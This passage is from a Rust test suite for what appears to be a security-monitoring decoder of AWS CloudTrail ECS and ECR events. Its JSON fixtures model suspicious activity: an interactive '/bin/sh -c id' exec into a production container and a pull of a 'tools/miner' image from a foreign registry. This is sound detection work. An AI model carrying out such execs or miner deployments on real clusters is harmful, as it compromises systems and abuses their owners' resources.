            e.containers[0].security.command.as_ref().map(Vec::len),
            Some(3)
        );
        assert_eq!(e.containers[1].security.command, None);
        assert!(e.containers[0].security.privileged.is_none());
        assert_eq!(
            e.principal.as_ref().unwrap().kind.as_deref(),
            Some("IAMUser")
        );

        let e = &events[1].event;
        assert_eq!(e.action, Action::ResourceList);
        assert_eq!(e.cluster.as_deref(), Some("prod-ecs"));
        assert!(e.principal.is_none());
    }

    #[test]
    fn eventbridge_wraps_one_event() {
        let detail = r#"{"eventVersion":"1.08","userIdentity":{"type":"IAMUser","arn":"arn:aws:iam::111122223333:user/ops","accountId":"111122223333"},"eventTime":"2024-05-14T09:30:00Z","eventSource":"ecs.amazonaws.com","eventName":"ExecuteCommand","awsRegion":"us-east-1","requestParameters":{"cluster":"prod-ecs","container":"web","command":"/bin/sh -c id","interactive":true,"task":"0a1b2c3d4e5f4a6b8c9d0e1f2a3b4c5d"},"responseElements":{"clusterArn":"arn:aws:ecs:us-east-1:111122223333:cluster/prod-ecs","containerArn":"arn:aws:ecs:us-east-1:111122223333:container/prod-ecs/0a1b/c1","containerName":"web","interactive":true,"session":{"sessionId":"ecs-execute-command-0abc","streamUrl":"wss://ssmmessages.us-east-1.amazonaws.com/v1/data-channel/ecs-execute-command-0abc","tokenValue":"HIDDEN_DUE_TO_SECURITY_REASONS"},"taskArn":"arn:aws:ecs:us-east-1:111122223333:task/prod-ecs/0a1b2c3d4e5f4a6b8c9d0e1f2a3b4c5d"},"eventID":"e3"}"#;
        let wrapped = format!(
            r#"{{"version":"0","id":"7bf73129-1428-4cd3-a780-95db273d1602","detail-type":"AWS API Call via CloudTrail","source":"aws.ecs","account":"111122223333","time":"2024-05-14T09:30:00Z","region":"us-east-1","resources":[],"detail":{detail}}}"#
        );
        let d = crate::decode::decode_one(&wrapped).unwrap();
        assert_eq!(d.raw.as_deref(), Some(detail));
        let e = d.event;
        assert_eq!(e.action, Action::ContainerExec);
        assert_eq!(e.account.as_deref(), Some("111122223333"));
        let p = e.process.as_ref().unwrap();
        assert_eq!(p.command_line.as_deref(), Some("/bin/sh -c id"));
        assert_eq!(p.executable.as_deref(), Some("/bin/sh"));
        assert_eq!(p.args.len(), 3);
        assert_eq!(e.containers[0].name.as_deref(), Some("web"));
        let w = e.workload.as_ref().unwrap();
        assert_eq!(w.name.as_deref(), Some("0a1b2c3d4e5f4a6b8c9d0e1f2a3b4c5d"));

        let other = wrapped.replace("AWS API Call via CloudTrail", "ECS Task State Change");
        assert!(matches!(
            decode(&other),
            Err(DecodeError::Shape {
                format: Source::CloudTrail,
                ..
            })
        ));
    }

    #[test]
    fn ecr_pull_and_failures() {
        let text = r#"{"eventTime":"2024-05-14T09:21:35Z","eventSource":"ecr.amazonaws.com","eventName":"BatchGetImage","awsRegion":"us-east-1","userIdentity":{"type":"AWSService","invokedBy":"ecs.amazonaws.com"},"requestParameters":{"registryId":"444455556666","repositoryName":"tools/miner","imageIds":[{"imageTag":"latest"}],"acceptedMediaTypes":["application/vnd.docker.distribution.manifest.v2+json"]},"responseElements":null,"eventID":"e4","recipientAccountId":"111122223333"}"#;
        let e = one(text).event;
        assert_eq!(e.action, Action::ImagePull);
        let image = e.containers[0].image.as_ref().unwrap();
        assert_eq!(
            image.registry,
            "444455556666.dkr.ecr.us-east-1.amazonaws.com"
        );
        assert_eq!(image.repository, "tools/miner");
        assert_eq!(image.tag.as_deref(), Some("latest"));
        let p = e.principal.unwrap();
        assert_eq!(
            (p.name.as_ref(), p.kind.as_deref()),
            ("ecs.amazonaws.com", Some("AWSService"))
        );

        let denied = r#"{"eventTime":"2024-05-14T09:21:35Z","eventSource":"ecs.amazonaws.com","eventName":"StopTask","awsRegion":"us-east-1","errorCode":"AccessDenied","errorMessage":"User is not authorized","requestParameters":{"cluster":"default","task":"abc","reason":"cleanup"},"responseElements":null,"eventID":"e5"}"#;
        let e = one(denied).event;
        assert_eq!(e.action, Action::ContainerStop);
        assert_eq!(e.error.as_deref(), Some("AccessDenied"));
        assert_eq!(e.reason.as_deref(), Some("cleanup"));
        assert_eq!(e.workload.unwrap().name.as_deref(), Some("abc"));
        assert!(e.containers.is_empty());
    }

    #[test]
    fn services_and_other_calls() {
        let create = r#"{"eventSource":"ecs.amazonaws.com","eventName":"CreateService","requestParameters":{"serviceName":"web","cluster":"prod-ecs","taskDefinition":"arn:aws:ecs:us-east-1:111122223333:task-definition/web:7","desiredCount":2},"responseElements":{"service":{"serviceArn":"arn:aws:ecs:us-east-1:111122223333:service/prod-ecs/web"}}}"#;
        let e = one(create).event;
        assert_eq!(e.action, Action::WorkloadCreate);
        let w = e.workload.unwrap();
        assert_eq!((&*w.kind, w.name.as_deref()), ("Service", Some("web")));
        assert_eq!(w.owner.as_deref(), Some("TaskDefinition/web:7"));
        let update = r#"{"eventSource":"ecs.amazonaws.com","eventName":"UpdateService","requestParameters":{"service":"arn:aws:ecs:us-east-1:111122223333:service/prod-ecs/web","desiredCount":0}}"#;
        let e = one(update).event;
        assert_eq!(e.action, Action::WorkloadUpdate);
        assert_eq!(e.workload.unwrap().name.as_deref(), Some("web"));
        let other = r#"{"eventSource":"s3.amazonaws.com","eventName":"GetObject","requestParameters":{"bucketName":"b","key":[1,2]}}"#;
        let e = one(other).event;
        assert_eq!(e.action, Action::Other);
        assert!(e.workload.is_none() && e.containers.is_empty());
    }

    #[test]
    fn empty_records_and_nulls() {
        assert!(decode(r#"{"Records":[]}"#).unwrap().is_empty());
        let text = r#"{"eventSource":"ecs.amazonaws.com","eventName":"RegisterTaskDefinition","requestParameters":null,"userIdentity":null}"#;
        let e = one(text).event;
        assert_eq!(e.action, Action::WorkloadCreate);
        assert!(e.containers.is_empty());
        assert!(e.principal.is_none());
    }

    #[test]
    fn wrong_shapes_are_located_errors() {
        let text = r#"{"Records":[{"eventSource":"ecs.amazonaws.com","eventName":"RunTask"},{"eventSource":"ecs.amazonaws.com","eventName":5}]}"#;
        match decode(text) {
            Err(DecodeError::Shape { column, format, .. }) => {
                assert_eq!(format, Source::CloudTrail);
                assert!(column > 70, "{column}");
            }
            other => panic!("{other:?}"),
        }
        let text = r#"{"eventSource":"ecs.amazonaws.com","eventName":"RegisterTaskDefinition","requestParameters":{"containerDefinitions":[{"privileged":"yes"}]}}"#;
        match decode(text) {
            Err(DecodeError::Shape {
                column, message, ..
            }) => {
                assert!(message.starts_with("requestParameters: "), "{message}");
                assert!(column > 100, "{column}");
            }
            other => panic!("{other:?}"),
        }
        for text in [
            r#"{"eventSource":"ecs.amazonaws.com"}"#,
            r#"{"eventName":"RunTask"}"#,
            r#"{"Records":{"eventName":"RunTask"}}"#,
            r#"[1,2]"#,
        ] {
            assert!(
                matches!(
                    decode(text),
                    Err(DecodeError::Shape {
                        format: Source::CloudTrail,
                        ..
                    })
                ),
                "{text}"
            );
        }
    }
}
